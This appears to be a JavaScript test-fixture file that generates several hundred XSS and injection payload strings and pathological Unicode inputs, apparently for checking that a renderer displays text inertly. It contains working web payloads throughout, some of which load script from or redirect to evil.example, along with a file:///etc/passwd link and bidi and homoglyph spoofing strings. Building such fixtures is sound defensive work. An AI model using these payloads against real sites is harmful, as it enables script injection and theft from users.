// Texts that would run something, or break a line, if they were shown as anything but text.

const RUN = 'ran()';

// Elements that run a handler without anybody's help, or by being looked at.
const ELEMENTS = [
  ['img src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'],
  ['iframe', 'onload'], ['object data=x', 'onerror'], ['embed src=x', 'onload'], ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['marquee', 'onstart'],
  ['a autofocus href=x', 'onfocus'], ['button autofocus', 'onfocus'], ['style', 'onload'], ['link rel=stylesheet href=/', 'onload'],
  ['p tabindex=1 autofocus', 'onfocus'], ['svg><animate attributeName=x', 'onbegin'], ['x contenteditable autofocus', 'onfocus'],
];
// What would have to be left first: a text, an attribute, an element that holds text, a comment.
const WAYS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '-->', '</style>', '</option></select>', '" ', "' ", '`>'];
const SCHEMES = [
  'javascript:ran()', 'JaVaScRiPt:ran()', ' javascript:ran()', 'java\tscript:ran()', 'java\nscript:ran()', '\u0001javascript:ran()',
  'javascript&colon;ran()', '&#106;avascript:ran()', 'vbscript:ran()', 'data:text/html,<script>ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==', 'blob:ran', 'file:///etc/passwd', '//evil.example', 'filesystem:x',
  'http://evil.example" onmouseover=ran() x="', "https://evil.example/'onfocus=ran() autofocus '", 'https://a.example/<svg onload=ran()>',
];
const LINKS = [(url) => `[x](${url})`, (url) => `<${url}>`, (url) => `![x](${url})`, (url) => url, (url) => `[x]: ${url}`];
const OTHERS = [
  '<script>ran()</script>', '<SCRIPT SRC=//evil.example></SCRIPT>', '<script/x>ran()</script>', '<<script>ran()//<</script>',
  '<scr<script>ipt>ran()</scr</script>ipt>', '<script\u00a0>ran()</script>', '\\x3cscript\\x3eran()\\x3c/script\\x3e', '%3Cscript%3Eran()%3C/script%3E',
  '&lt;script&gt;ran()&lt;/script&gt;', '&amp;lt;img src=x onerror=ran()&amp;gt;', '＜img src=x onerror=ran()＞', '<img/src=x/onerror=ran()>',
  '<img src=x onerror\n=ran()>', '<img src="x`" onerror=ran() `>', '<svg><script>ran()</script></svg>', '<svg/onload=ran()>',
  '<svg><style><img src=x onerror=ran()></style>', '<math><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<noscript><p title="</noscript><img src=x onerror=ran()>">', '<form><button formaction=javascript:ran()>x</button></form>',
  '<template><img src=x onerror=ran()></template>', '<base href=//evil.example>', '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<div hx-get=/ hx-trigger=load>', '<div hx-on:load=ran()>', '<div data-hx-on--load=ran()>', '<hx-partial hx-target=body>x</hx-partial>',
  '<i id="messages" data-gone>', '<li id="m1" data-gone>', '{{ 7*7 }}', '${ran()}', '#{ran()}', '<%= ran() %>', '{% raw %}', '[[ran()]]',
  '{"reset":true}', '"}]}\n{"reset":true}', '\n<img src=x onerror=ran()>', ']]><img src=x onerror=ran()>', '<!--><img src=x onerror=ran()>',
  "';ran()//", '");ran()//', '\\";ran()//', '`${ran()}`', '<style>*{background:url(//evil.example)}</style>', '<x style="position:fixed;inset:0">',
  '```html\n<img src=x onerror=ran()>\n```', '`<img src=x onerror=ran()>`', '**<b onclick=ran()>**', '> <img src=x onerror=ran()>', '- <svg onload=ran()>',
];

// At least 300 of them, each another.
export const vectors = [...new Set([
  ...OTHERS,
  ...ELEMENTS.flatMap(([element, handler]) => WAYS.map((way) => `${way}<${element} ${handler}=${RUN}>`)),
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
])];

// Those that fit into a field of one short line, as such a field keeps them.
export const short = [...new Set(vectors.map((vector) => vector.replace(/[\s\u0001|]+/g, ' ').trim()))]
  .filter((vector) => vector.length > 1 && vector.length <= 80);

const marks = (count) => 'a' + '\u0301\u0323\u0489'.repeat(count / 3);
export const horrors = [
  '\u202egnp.exe\u202c and on', '\u2066left\u2069 \u2067right\u2069 \u2068either\u2069', 'zero\u200b\u200c\u200d\u2060\ufeffwidth', marks(30), marks(10_000),
  'W'.repeat(5000), '字'.repeat(3000), '\u3000'.repeat(500) + 'x', 'x' + '\u00a0'.repeat(2000) + 'x', '👩‍👩‍👧‍👦'.repeat(500), '\u{1F3F4}'.repeat(300),
  'ﷺ'.repeat(400), '𒐫'.repeat(200), 'https://xn--pple-43d.example https://аpple.example', `https://example.com/${'a'.repeat(3000)}`,
  'a\u0000b'.replace('\u0000', '\ufffd'), 'Z\u0335\u0321'.repeat(300), '\u202e'.repeat(200) + 'x', '*'.repeat(3000), '> '.repeat(2000) + 'x', '['.repeat(4000),
  '`'.repeat(2999), '- '.repeat(1500) + 'x', '_a_'.repeat(2000), 'נור عزيز abc 123 עברית', '\ud83d\udc69\u200d'.repeat(300),
];
